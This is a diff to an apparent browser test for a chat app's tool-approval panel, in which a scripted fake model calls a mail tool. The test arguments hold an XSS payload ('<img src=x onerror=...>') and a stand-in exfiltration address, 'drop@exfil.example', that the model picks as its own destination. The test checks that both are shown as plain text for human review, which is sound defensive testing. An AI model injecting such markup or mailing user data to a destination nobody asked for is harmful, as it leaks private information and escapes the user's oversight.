@@ -21,7 +21,7 @@ from django.utils.translation import gettext
 from audit.models import AuditEvent
 from chat.models import ToolApproval, Turn, TurnStatus
 from tests.support.browser import browser_stack_running
-from tests.support.connector_world import ALL_MODELS, PHONE, add_connector, set_policy
+from tests.support.connector_world import ALL_MODELS, add_connector, set_policy
 from tests.support.fake_llm import text, tool_call
 from tests.support.mcp_servers import stdio_command_toml
 
@@ -128,13 +128,16 @@ def approval_kinds() -> list[str]:
 
 def test_approve_from_the_keyboard_and_the_turn_goes_on(chat_env, pages, desk, record_path):
     hostile = "<img src=x onerror=document.title=1>"
-    chat_env.fake.script = [tool_call(MAIL, {"text": f"보고서 {PHONE} {hostile}"}), text("보고서를 보냈습니다.")]
+    # The model writes a token it was given and a destination of its own.
+    arguments = {"text": f"보고서 [전화번호-1] {hostile}", "to": "drop@exfil.example"}
+    chat_env.fake.script = [tool_call(MAIL, arguments), text("보고서를 보냈습니다.")]
     page = open_chat(chat_env, pages)
     send(page, "보고서를 보내 줘")
     panel = pending_panel(page)
 
-    # At the step of the call, with tool, connector and the arguments as text:
-    # the phone number a chip, the markup shown, never parsed.
+    # At the step of the call, with tool, connector and the arguments as text
+    # as the model wrote them: the token a chip, the destination as written,
+    # the markup shown, never parsed.
     step = page.locator(".row.assistant .step")
     assert step.count() == 1 and MAIL in step.locator("summary").inner_text()
     assert step.evaluate("d => d.nextElementSibling.classList.contains('approval')")
@@ -150,7 +153,7 @@ def test_approve_from_the_keyboard_and_the_turn_goes_on(chat_env, pages, desk, r
     args = panel.locator(".approval-args")
     chip = args.locator(".pii")
     assert chip.count() == 1 and chip.inner_text().startswith("[전화번호-")
-    assert PHONE not in page.locator("#log").inner_text()
+    assert "drop@exfil.example" in args.inner_text()
     assert hostile in args.inner_text() and args.locator("img").count() == 0
     assert page.title() != "1"
     assert panel.locator(".approval-manage").get_attribute("href") == "/always-allowed/"
